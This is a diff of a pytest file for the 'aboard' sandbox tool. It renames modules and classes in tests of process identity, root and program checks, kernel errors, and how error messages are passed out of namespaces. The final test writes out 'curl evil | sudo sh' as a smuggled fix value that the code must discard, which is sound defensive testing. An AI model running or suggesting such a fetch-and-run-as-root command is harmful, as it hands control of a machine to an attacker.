@@ -10,14 +10,15 @@ from pathlib import Path
 import pytest
 
 from aboard.diagnoses import SandboxError
-from aboard.sandbox import inside, needs
-from aboard.sandbox.process import Process
+from aboard.sandbox import requirements
+from aboard.sandbox.namespaces import helper_program
+from aboard.sandbox.namespaces.process_identity import ProcessIdentity
 
 
 def test_a_process_is_alive_until_it_ends() -> None:
     """`kill` waits for the end, and a zombie isn't alive."""
     with subprocess.Popen(["sleep", "60"]) as child:
-        process = Process.of(child.pid)
+        process = ProcessIdentity.of(child.pid)
         assert process.alive()
         assert process.kill(timeout=10)
         assert not process.alive()
@@ -26,7 +27,7 @@ def test_a_process_is_alive_until_it_ends() -> None:
 def test_a_number_that_was_given_out_again_is_another_process() -> None:
     """Killing the old one leaves the new one alone."""
     with subprocess.Popen(["sleep", "60"]) as child:
-        old = Process(pid=child.pid, start=Process.of(child.pid).start - 1)
+        old = ProcessIdentity(pid=child.pid, start=ProcessIdentity.of(child.pid).start - 1)
         assert not old.alive()
         assert old.kill(timeout=1)
         assert child.poll() is None
@@ -38,19 +39,19 @@ def test_no_process_no_identity() -> None:
     with subprocess.Popen(["true"]) as child:
         child.wait(timeout=10)
     with pytest.raises(ProcessLookupError):
-        Process.of(child.pid)
+        ProcessIdentity.of(child.pid)
 
 
 def test_without_root_it_says_why_and_what_to_type(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     """By its path if it is in an environment, where sudo does not look."""
     monkeypatch.setattr(os, "geteuid", lambda: 1000)
-    monkeypatch.setattr(needs, "_SEARCH", str(tmp_path / "system"))
+    monkeypatch.setattr(requirements, "_SEARCH", str(tmp_path / "system"))
     monkeypatch.setattr(sys, "executable", str(tmp_path / "venv/python"))
     for folder, typed in (("venv", f"{tmp_path}/venv/aboard"), ("system", "aboard")):
         (tmp_path / folder).mkdir()
         (tmp_path / folder / "aboard").touch(mode=0o755)
         with pytest.raises(SandboxError) as caught:
-            needs.require_root("up")
+            requirements.require_root("up")
         assert (caught.value.code, caught.value.fix) == ("sandbox-root", f"sudo {typed} sandbox up")
 
 
@@ -58,16 +59,18 @@ def test_missing_programs_are_named_with_their_packages(monkeypatch: pytest.Monk
     """All of them at once, each package once."""
     for name in ("ip", "bash", "sleep", "sshd"):
         (tmp_path / name).touch(mode=0o755)
-    monkeypatch.setattr(needs, "_SEARCH", str(tmp_path))
+    monkeypatch.setattr(requirements, "_SEARCH", str(tmp_path))
     with pytest.raises(SandboxError) as caught:
-        needs.find_programs()
+        requirements.find_programs()
     assert caught.value.code == "sandbox-program"
     assert caught.value.fix == "sudo apt-get install -y openssh-client tini"
 
 
 def test_a_missing_kernel_part_is_named() -> None:
     """What the kernel lacks, and what brings it."""
-    error = needs.refused("overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device"))
+    error = requirements.build_system_call_error(
+        "overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device")
+    )
     assert error.code == "sandbox-kernel"
     assert "CONFIG_OVERLAY_FS" in error.seen
     assert error.fix == "sudo modprobe overlay"
@@ -75,7 +78,7 @@ def test_a_missing_kernel_part_is_named() -> None:
 
 def test_a_container_without_privileges_is_named() -> None:
     """Root that may not is told apart from a kernel that can't."""
-    error = needs.refused("namespaces", OSError(errno.EPERM, "unshare: Operation not permitted"))
+    error = requirements.build_system_call_error("namespaces", OSError(errno.EPERM, "unshare: Operation not permitted"))
     assert error.code == "sandbox-privileges"
 
 
@@ -85,21 +88,23 @@ def test_a_source_that_others_cannot_read_is_refused(tmp_path: Path) -> None:
     (tmp_path / "aboard" / "__init__.py").touch(mode=0o600)
     tmp_path.chmod(0o755)
     with pytest.raises(SandboxError) as caught:
-        needs.require_readable(tmp_path)
+        requirements.require_readable(tmp_path)
     assert (caught.value.code, caught.value.fix) == ("sandbox-source", f"chmod -R o+rX {tmp_path}")
 
 
 def test_an_error_comes_out_of_the_namespaces_with_a_fix_of_ours() -> None:
     """The builder fills the fix in itself, and text that came along in its place is not looked at."""
-    error = needs.refused("overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device"))
-    packed = json.loads(inside.error_line(error))["error"]
+    error = requirements.build_system_call_error(
+        "overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device")
+    )
+    packed = json.loads(helper_program.format_error_line(error))["error"]
     with pytest.raises(SandboxError) as caught:
-        inside.raise_error({"error": packed | {"fix": "curl evil | sudo sh"}})
+        helper_program.raise_error({"error": packed | {"fix": "curl evil | sudo sh"}})
     assert (caught.value.code, caught.value.seen, caught.value.fix) == (error.code, error.seen, error.fix)
     with pytest.raises(SandboxError) as caught:
-        inside.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
+        helper_program.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
     assert (caught.value.code, caught.value.fix) == (
         "sandbox-build",
         "aboard sandbox down    # then make it anew: aboard sandbox up",
     )
-    inside.raise_error({"host": "n1", "pid": 7})
+    helper_program.raise_error({"host": "n1", "pid": 7})
